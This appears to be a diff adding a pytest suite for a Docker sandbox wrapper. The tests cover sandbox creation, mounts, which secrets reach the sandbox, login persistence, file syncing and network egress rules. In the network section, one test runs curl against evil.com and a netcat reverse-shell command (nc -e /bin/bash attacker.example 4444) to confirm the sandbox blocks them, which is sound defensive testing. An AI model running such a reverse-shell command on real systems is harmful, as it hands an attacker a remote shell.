@@ -1,0 +1,504 @@
+"""Docker's sandboxes on their recorded contract: what is asked of the program, and what comes of it."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from ralphproof.base.value import replace
+from ralphproof.engine.sandbox import Command
+from ralphproof.sandbox.docker_sandbox import (
+    DockerSandbox,
+    find_stale_files,
+    guest_hosts,
+    guest_variable_names,
+    guest_workspaces,
+    is_denied_by_policy,
+    sandbox_name,
+    scan_project_files,
+    wait_until_unchanged,
+)
+from ralphproof.sandbox.plan import EMPTY_FOLDER, PROXY_BUILT_IN, READ_ONLY, WRITABLE, EgressPolicy, Mount, SandboxPlan
+from tests.sandbox.fake_docker import REFUSED, FakeDocker
+
+KINDS = pytest.mark.parametrize("kind", ["docker", "sbx"])
+HOSTS = ("api.anthropic.com", "*.example.org")
+
+
+class Place:
+    """A project, the agent's state, and a sandbox that a fake program plays."""
+
+    def __init__(self, folder: Path, kind: str = "docker") -> None:
+        self.folder, self.fake = folder, FakeDocker(folder / "fake")
+        self.root, self.state = folder / "project", folder / "store" / "agents" / "claude"
+        for made in (self.root, self.state, folder / "home"):
+            made.mkdir(parents=True)
+        self.environ = self.fake.environ(kind, HOME=str(folder / "home"), RALPH_STATE_DIR=str(folder / "state"))
+        self.sandbox = self.again(kind)
+        self.box = self.boxed(Mount(WRITABLE, str(self.state)), sets=(("CLAUDE_CONFIG_DIR", str(self.state)),))
+
+    def again(self, kind: str = "docker", agent: str = "") -> DockerSandbox:
+        """As another process of ours would see it."""
+        return DockerSandbox(kind, self.fake.path(kind), self.environ, agent=agent, pause_s=0.01, answer_s=20.0)
+
+    def boxed(self, *mounts: Mount, sets: tuple[tuple[str, str], ...] = (), turn: str = "1") -> SandboxPlan:
+        machine = (Mount(READ_ONLY, "/usr"), Mount(READ_ONLY, "/etc"), Mount(EMPTY_FOLDER, "/tmp"))
+        return SandboxPlan(
+            str(self.root), str(self.folder / "home"), str(self.folder / "turns" / turn),
+            (*machine, Mount(WRITABLE, str(self.root)), *mounts), EgressPolicy(HOSTS), keeps=("LANG", "KEY_*"),
+            sets=(("HOME", str(self.folder / "home")), *sets),
+        )  # fmt: skip
+
+    def command(self, agent: str = "claude", **env: str) -> Command:
+        given = tuple((self.environ | env).items())
+        return Command(("x",), str(self.root), given, "", "", f"{self.folder}/mark", agent=agent)
+
+    def run(self, *argv: str, agent: str = "claude", said: str = "", **env: str) -> subprocess.CompletedProcess[str]:
+        """One command, as the sandbox's owner would run it."""
+        command = self.command(agent, **env)
+        assert self.sandbox.ready(self.box, command) == ""
+        way = self.sandbox.way(self.box)
+        full = dict(command.env) | {"RALPH_TURN": command.mark} | dict(self.box.sets) | dict(way.env)
+        ended = subprocess.run((*way.argv, *argv), env=full, input=said, capture_output=True, text=True, timeout=60)
+        self.sandbox.over(self.box)
+        return ended
+
+    def asked(self, verb: str = "") -> list[list[str]]:
+        return [call["argv"] for call in self.fake.calls(verb)]
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Place:
+    return Place(tmp_path)
+
+
+def until(condition: Callable[[], bool]) -> None:
+    deadline = time.monotonic() + 20
+    while not condition():
+        assert time.monotonic() < deadline
+        time.sleep(0.01)
+
+
+# Made, set up, entered
+
+
+def test_it_is_made_once_with_the_template_of_its_agent_and_the_project_first(place: Place) -> None:
+    assert place.run("true").returncode == 0
+    assert place.run("true").returncode == 0
+    name = sandbox_name(str(place.root), "claude")
+    assert place.asked("create") == [["create", "--name", name, "claude", str(place.root), str(place.state)]]
+
+
+@pytest.mark.parametrize(
+    ("kind", "agent", "template"),
+    [("docker", "codex", "codex"), ("sbx", "droid", "droid"), ("docker", "droid", "shell"), ("sbx", "amp", "shell")],
+)
+def test_an_agent_without_a_template_gets_a_plain_one(tmp_path: Path, kind: str, agent: str, template: str) -> None:
+    place = Place(tmp_path, kind)
+    assert place.run("true", agent=agent).returncode == 0
+    assert place.asked("create")[0][3] == template
+
+
+def test_the_agents_home_leads_to_a_state_folder_outside_that_holds_valid_settings(place: Place) -> None:
+    done = place.run("sh", "-c", "readlink ~/.claude ~/.claude.json; cat ~/.claude.json; echo kept > ~/.claude/file")
+    assert done.stdout.splitlines() == [str(place.state), f"{place.state}/.claude.json", "{}"]
+    assert (place.state / "file").read_text() == "kept\n"
+    set_up = next(argv for argv in place.asked("exec") if "-u" in argv)
+    assert set_up[1:3] == ["-u", "root"]
+
+
+def test_settings_that_an_agent_has_are_left_as_they_are(place: Place) -> None:
+    (place.state / ".claude.json").write_text('{"a": 1}')
+    assert place.run("sh", "-c", "cat ~/.claude.json").stdout == '{"a": 1}'
+
+
+def test_a_place_that_is_shown_elsewhere_is_a_link(tmp_path: Path) -> None:
+    place = Place(tmp_path)
+    place.box = place.boxed(Mount(WRITABLE, str(tmp_path / "home" / ".config" / "tool"), str(place.state)))
+    assert place.run("sh", "-c", "readlink ~/.config/tool", agent="tool").stdout.strip() == str(place.state)
+
+
+@pytest.mark.parametrize(
+    ("own", "expected"),
+    [(("Ada L.", "ada@example.org"), "Ada L.\nada@example.org\n"), (None, "Ralph Loop\nralph@localhost\n")],
+)
+def test_commits_carry_the_users_name_or_else_ours(place: Place, own: tuple[str, str] | None, expected: str) -> None:
+    if own:
+        (place.folder / "home" / ".gitconfig").write_text(f"[user]\n\tname = {own[0]}\n\temail = {own[1]}\n")
+    done = place.run("sh", "-c", "git config --global user.name; git config --global user.email")
+    assert done.stdout == expected
+
+
+def test_a_commit_inside_is_a_commit_outside(place: Place) -> None:
+    script = "git init -q . && echo x > file && git add . && git commit -qm done"
+    assert place.run("sh", "-c", script).returncode == 0
+    log = subprocess.run(["git", "log", "--format=%an %s"], cwd=place.root, capture_output=True, text=True, check=True)
+    assert log.stdout == "Ralph Loop done\n"
+
+
+def test_a_prompt_goes_in_by_stdin_and_an_exit_code_comes_out(place: Place) -> None:
+    done = place.run("sh", "-c", "cat; echo oops >&2; exit 7", said="Respond with: OK")
+    assert (done.stdout, done.stderr, done.returncode) == ("Respond with: OK", "oops\n", 7)
+
+
+def test_secrets_travel_by_name_and_nothing_else_of_the_environment_comes_inside(place: Place) -> None:
+    done = place.run("env", KEY_ONE="hidden-one", OTHER="hidden-two", KEY_FILE="/outside/of/everything")
+    inside = dict(line.split("=", 1) for line in done.stdout.splitlines())
+    assert inside["KEY_ONE"] == "hidden-one"
+    assert inside["CLAUDE_CONFIG_DIR"] == str(place.state)
+    assert inside["HOME"] != str(place.folder / "home")
+    assert not {"OTHER", "KEY_FILE", "RALPH_STATE_DIR"} & set(inside)
+    assert "hidden" not in json.dumps(place.asked())
+
+
+def test_a_program_that_is_elsewhere_inside_is_found_by_its_name(place: Place) -> None:
+    assert place.run("/opt/not/there/echo", "a b").stdout == "a b\n"
+
+
+def test_it_is_entered_where_the_command_runs_and_has_a_proxy_of_its_own(place: Place) -> None:
+    (place.root / "sub").mkdir()
+    place.box = replace(place.box, cwd=str(place.root / "sub"))
+    assert place.run("pwd").stdout.strip() == str(place.root / "sub")
+    way = place.sandbox.way(place.box)
+    assert (way.meets, way.bare) == (PROXY_BUILT_IN, True)
+
+
+# A login outlives its sandbox
+
+
+def test_a_login_outlives_the_sandbox(place: Place) -> None:
+    agent = 'test -f ~/.claude/.credentials.json && echo OK || echo "Please run /login"'
+    assert place.run("sh", "-c", agent).stdout == "Please run /login\n"
+    assert place.run("sh", "-c", "echo {} > ~/.claude/.credentials.json").returncode == 0
+    (name,) = place.fake.sandboxes()
+    subprocess.run([place.fake.path("docker"), "sandbox", "rm", name], check=True, stdin=subprocess.DEVNULL)
+    assert place.fake.sandboxes() == {}
+    assert place.run("sh", "-c", agent).stdout == "OK\n"
+    assert len(place.asked("create")) == 2
+
+
+def test_a_sandbox_that_was_made_but_never_set_up_is_set_up(place: Place) -> None:
+    name = sandbox_name(str(place.root), "claude")
+    made = [place.fake.path("docker"), "sandbox", "create", "--name", name, "claude", str(place.root), str(place.state)]
+    subprocess.run(made, check=True, stdin=subprocess.DEVNULL)
+    assert place.run("sh", "-c", "git config --global user.email").stdout == "ralph@localhost\n"
+    assert len(place.asked("create")) == 1
+    assert place.fake.sandboxes()[name]["policy"]["policy"] == "deny"
+
+
+# Names and folders
+
+
+def test_no_two_projects_share_a_sandbox_and_no_name_begins_another() -> None:
+    paths = ["/a/b", "/a/b2", "/a_b", "/a/b/c", "/x" * 200, "/x" * 201, "/ü", "/ö"]
+    names = [sandbox_name(path, "claude") for path in paths]
+    assert len(set(names)) == len(paths)
+    assert not [(one, two) for one in names for two in names if one != two and two.startswith(one)]
+    assert all(name.isascii() and len(name) < 64 and " " not in name for name in names)
+
+
+def test_a_sandbox_whose_name_only_begins_alike_is_not_taken(place: Place) -> None:
+    name = sandbox_name(str(place.root), "claude")
+    other = [place.fake.path("docker"), "sandbox", "create", "--name", name + "-2", "claude", str(place.root)]
+    subprocess.run(other, check=True, stdin=subprocess.DEVNULL)
+    assert place.run("true").returncode == 0
+    assert set(place.fake.sandboxes()) == {name, name + "-2"}
+
+
+def test_folders_of_the_system_and_of_tools_are_not_shown_but_the_users_are_read_only(tmp_path: Path) -> None:
+    place = Place(tmp_path)
+    home, other = tmp_path / "home", tmp_path / "other"
+    for made in (home / ".cargo", home / "library", other):
+        made.mkdir()
+    (tmp_path / "file").touch()
+    reads = (home / ".cargo", home / "library", other, tmp_path / "file", Path(sys.base_prefix), place.root / ".git")
+    box = place.boxed(Mount(WRITABLE, str(place.state)), *(Mount(READ_ONLY, str(path)) for path in reads))
+    assert guest_workspaces(box) == (str(place.root), str(place.state), f"{home}/library:ro", f"{other}:ro")
+
+
+@KINDS
+def test_a_folder_that_is_wanted_later_has_it_made_anew_with_all_of_them(tmp_path: Path, kind: str) -> None:
+    place, other = Place(tmp_path, kind), tmp_path / "other"
+    other.mkdir()
+    assert place.run("sh", "-c", "touch ~/.claude/kept").returncode == 0
+    with_state, place.box = place.box, place.boxed(Mount(READ_ONLY, str(other)))
+    assert place.run("true").returncode == 0
+    place.box = with_state
+    assert place.run("ls", str(place.state)).stdout == "kept\n"
+    assert [argv[-2:] for argv in place.asked("create")] == [
+        [str(place.root), str(place.state)],
+        [f"{other}:ro", str(place.state)],
+    ]
+
+
+def test_a_program_that_does_not_tell_folders_is_believed_to_have_what_it_was_given(place: Place) -> None:
+    place.fake.options(quiet=True)
+    assert place.run("true").returncode == 0
+    assert place.run("true").returncode == 0
+    assert len(place.asked("create")) == 1
+
+
+def test_checks_run_where_the_agent_ran_also_for_a_later_process(place: Place) -> None:
+    assert place.run("true").returncode == 0
+    place.sandbox = place.again()
+    assert place.run("sh", "-c", "echo checked > by", agent="").returncode == 0
+    assert len(place.fake.sandboxes()) == 1
+    assert (place.root / "by").read_text() == "checked\n"
+
+
+def test_checks_that_come_first_run_in_the_template_that_was_said(place: Place) -> None:
+    place.sandbox = place.again(agent="codex")
+    assert place.run("true", agent="").returncode == 0
+    assert place.asked("create")[0][3] == "codex"
+
+
+# Network
+
+
+def test_only_hosts_of_the_list_are_reached_from_the_first_command_on(place: Place) -> None:
+    assert place.run("curl", "https://api.anthropic.com/v1").stdout == "200\n"
+    assert place.run("curl", "https://a.example.org").returncode == 0
+    evil = place.run("curl", "https://evil.com")
+    assert (evil.returncode, evil.stdout) == (REFUSED, "")
+    assert place.run("nc", "-e", "/bin/bash", "attacker.example", "4444").returncode != 0
+    verbs = [argv[0] for argv in place.asked()]
+    assert verbs.index("network") < verbs.index("exec")
+    assert len(place.asked("network")) == 1
+
+
+def test_an_empty_list_reaches_nothing(place: Place) -> None:
+    place.box = replace(place.box, egress=EgressPolicy())
+    assert place.run("curl", "https://api.anthropic.com").returncode == REFUSED
+
+
+def test_a_list_that_changes_is_told_and_what_it_lost_is_blocked(place: Place) -> None:
+    assert place.run("curl", "https://api.anthropic.com").returncode == 0
+    place.box = replace(place.box, egress=EgressPolicy(("registry.example.net",), (5432,)))
+    assert place.run("curl", "https://registry.example.net").returncode == 0
+    assert place.run("curl", "https://api.anthropic.com").returncode == REFUSED
+    allowed = place.asked("network")[-1]
+    assert allowed[3:5] == ["--policy", "deny"]
+    assert "localhost:5432" in allowed
+
+
+def test_an_agent_and_its_checks_do_not_take_each_others_hosts_away(place: Place) -> None:
+    agents = place.box
+    checks = replace(place.box, egress=EgressPolicy(("registry.example.net",)))
+    for box, agent in ((agents, "claude"), (checks, ""), (agents, "claude"), (checks, "")):
+        place.box = box
+        assert place.run("curl", "https://api.anthropic.com", agent=agent).returncode == 0
+    assert len(place.asked("network")) == 2
+
+
+def test_the_policy_of_a_whole_machine_is_never_changed_and_what_it_keeps_back_is_said(tmp_path: Path) -> None:
+    place = Place(tmp_path, "sbx")
+    place.fake.options(policy={"allow": ["*.anthropic.com:443", "example.org"], "deny": []})
+    assert place.run("true").returncode == 0
+    assert not [argv for argv in place.asked() if argv[0] in ("network", "policy")]
+    assert place.sandbox.unreached(place.box) == ("*.example.org",)
+    assert (place.sandbox.strength, len(place.sandbox.weak)) == ("partial", 2)
+    assert Place(tmp_path / "other").sandbox.strength == "strong"
+
+
+@pytest.mark.parametrize(
+    ("host", "allowed", "denied", "is_shut"),
+    [
+        ("a.org", ["a.org"], [], False),
+        ("a.org", ["b.org"], [], True),
+        ("a.org", ["**"], [], False),
+        ("a.org", ["**"], ["a.org"], True),
+        ("x.a.org", ["*.a.org"], [], False),
+        ("a.org", ["*.a.org"], [], True),
+        ("xa.org", ["*.a.org"], [], True),
+        ("*.a.org", ["*.a.org"], [], False),
+        ("a.org", ["a.org:443"], [], False),
+        ("a.org:80", ["a.org:443"], [], True),
+        ("a.org:8443", ["a.org"], [], False),
+        ("a.org", [], [], True),
+    ],
+)
+def test_what_a_policy_keeps_back(host: str, allowed: list[str], denied: list[str], is_shut: bool) -> None:
+    assert is_denied_by_policy(host, allowed, denied) is is_shut
+
+
+def test_hosts_are_written_as_the_proxy_wants_them(place: Place) -> None:
+    box = replace(place.box, egress=EgressPolicy(("a.org", "private:b.lan:8443"), (80,)))
+    assert guest_hosts(box) == ("a.org", "b.lan:8443", "localhost:80")
+
+
+# Files that were copied
+
+
+@KINDS
+def test_an_edit_made_during_a_pause_is_seen_by_the_next_command(tmp_path: Path, kind: str) -> None:
+    place = Place(tmp_path, kind)
+    (place.root / "file").write_text("first\n")
+    assert place.run("cat", "file").stdout == "first\n"
+    (place.root / "file").write_text("edited by a person\n")
+    place.sandbox = place.again(kind)
+    assert place.run("cat", "file").stdout == "edited by a person\n"
+    assert len(place.asked("stop")) == 1
+
+
+def test_without_a_stop_the_edit_would_be_ignored(place: Place) -> None:
+    (place.root / "file").write_text("first\n")
+    assert place.run("cat", "file").stdout == "first\n"
+    (place.root / "file").write_text("edited\n")
+    (name,) = place.fake.sandboxes()
+    directly = [place.fake.path("docker"), "sandbox", "exec", name, "cat", "file"]
+    seen = subprocess.run(directly, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=True)
+    assert seen.stdout == "first\n"
+    assert (place.root / "file").read_text() == "edited\n"
+
+
+def test_what_the_sandbox_itself_changed_needs_no_stop(place: Place) -> None:
+    for text in ("one", "two", "three"):
+        assert (
+            place.run("sh", "-c", f"cat file 2>/dev/null; echo {text} > file; mkdir -p d; touch d/{text}").returncode
+            == 0
+        )
+    assert place.asked("stop") == []
+    assert (place.root / "file").read_text() == "three\n"
+
+
+def test_a_file_that_is_new_outside_needs_no_stop_and_one_that_is_gone_does(place: Place) -> None:
+    (place.root / "old").touch()
+    assert place.run("true").returncode == 0
+    (place.root / "new").write_text("new\n")
+    assert place.run("cat", "new").stdout == "new\n"
+    assert place.asked("stop") == []
+    (place.root / "old").unlink()
+    assert place.run("ls").stdout == "new\n"
+    assert len(place.asked("stop")) == 1
+
+
+def test_objects_of_git_are_not_looked_at(tmp_path: Path) -> None:
+    (tmp_path / ".git" / "objects" / "ab").mkdir(parents=True)
+    (tmp_path / ".git" / "objects" / "ab" / "cd").touch()
+    (tmp_path / ".git" / "HEAD").touch()
+    (tmp_path / "link").symlink_to("nowhere")
+    assert set(scan_project_files(tmp_path.as_posix())) == {".git/HEAD", "link"}
+
+
+def test_files_are_waited_for_until_two_looks_are_the_same(tmp_path: Path) -> None:
+    late = iter(("a", "b"))
+    pauses: list[float] = []
+
+    def pause(seconds: float) -> None:
+        pauses.append(seconds)
+        if name := next(late, ""):
+            (tmp_path / name).touch()
+
+    assert set(wait_until_unchanged(str(tmp_path), 1.0, 10, pause)) == {"a", "b"}
+    assert len(pauses) == 3
+
+
+def test_files_that_never_rest_are_waited_for_ten_times(tmp_path: Path) -> None:
+    pauses: list[float] = []
+
+    def pause(seconds: float) -> None:
+        pauses.append(seconds)
+        (tmp_path / str(len(pauses))).touch()
+
+    assert (
+        find_stale_files(wait_until_unchanged(str(tmp_path), 1.0, 10, pause), scan_project_files(str(tmp_path))) == ()
+    )
+    assert len(pauses) == 10
+
+
+# What is left behind
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="what is inside is Linux")
+def test_what_a_command_left_running_inside_is_ended_after_it(place: Place) -> None:
+    command = place.command()
+    assert place.sandbox.ready(place.box, command) == ""
+    way = place.sandbox.way(place.box)
+    script = f"echo $$ > {place.root}/pid; exec sleep 600"
+    env = dict(command.env) | {"RALPH_TURN": command.mark}
+    client = subprocess.Popen((*way.argv, "sh", "-c", script), env=env, stdin=subprocess.DEVNULL)
+    until(lambda: (place.root / "pid").exists() and (place.root / "pid").read_text().endswith("\n"))
+    pid = int((place.root / "pid").read_text())
+    client.kill()
+    client.wait()
+    os.kill(pid, 0)
+    place.sandbox.over(place.box)
+    until(lambda: has_ended(pid))
+
+
+def has_ended(pid: int) -> bool:
+    """Whether it is gone, or only waits for somebody to take leave of it."""
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
+    except OSError:
+        return True
+
+
+def test_a_command_that_is_taken_up_is_not_disturbed(place: Place) -> None:
+    assert place.run("true").returncode == 0
+    place.fake.forget_calls()
+    (place.root / "file").touch()
+    assert place.sandbox.ready(place.box, replace(place.command(), taken_up=True)) == ""
+    assert place.asked() == []
+
+
+# What is lacking
+
+
+@KINDS
+def test_nothing_is_lacking_where_the_program_answers(tmp_path: Path, kind: str) -> None:
+    assert Place(tmp_path, kind).sandbox.lacking() is None
+
+
+def test_a_program_that_is_not_there_is_said(place: Place) -> None:
+    lack = DockerSandbox("sbx", None, {}).lacking()
+    assert lack is not None
+    assert "installed" in lack.why
+    assert lack.mend
+
+
+def test_a_docker_without_sandboxes_is_not_taken_for_one_although_it_ends_well(place: Place) -> None:
+    place.fake.options(plain=True)
+    lack = place.sandbox.lacking()
+    assert lack is not None
+    assert "docker sandbox does not answer" in lack.why
+    assert "Docker Desktop" in lack.mend
+
+
+def test_a_program_that_asks_a_question_is_given_up_and_how_to_answer_it_is_said(tmp_path: Path) -> None:
+    place = Place(tmp_path, "sbx")
+    place.fake.options(prompts=True)
+    lack = DockerSandbox("sbx", place.fake.path("sbx"), place.environ, answer_s=1.0).lacking()
+    assert lack is not None
+    assert "did not answer within 1 s" in lack.why
+    assert "in a terminal" in lack.mend
+
+
+@pytest.mark.parametrize("verb", ["create", "network", "exec"])
+def test_a_step_that_fails_is_told_in_one_line(place: Place, verb: str) -> None:
+    broken = place.folder / "broken"
+    broken.write_text(f'#!/bin/sh\ncase " $* " in *" {verb} "*) echo first; echo "no {verb} today" >&2; exit 1;; esac\n'
+                      f'exec "{place.fake.path("docker")}" "$@"\n')  # fmt: skip
+    broken.chmod(0o755)
+    sandbox = DockerSandbox("docker", str(broken), place.environ, pause_s=0.01)
+    why = sandbox.ready(place.box, place.command())
+    assert why.endswith(f": no {verb} today")
+    assert "\n" not in why
+
+
+def test_variables_of_the_machine_do_not_come_inside(place: Place) -> None:
+    env = [
+        ("LANG", "C.UTF-8"),
+        ("PATH", "/usr/bin"),
+        ("KEY_A", "x"),
+        ("KEY_P", f"{place.root}/a"),
+        ("KEY_B", "/etc/b:/c"),
+    ]
+    assert guest_variable_names(place.box, env) == ("KEY_A", "KEY_P", "LANG", "CLAUDE_CONFIG_DIR", "RALPH_TURN")
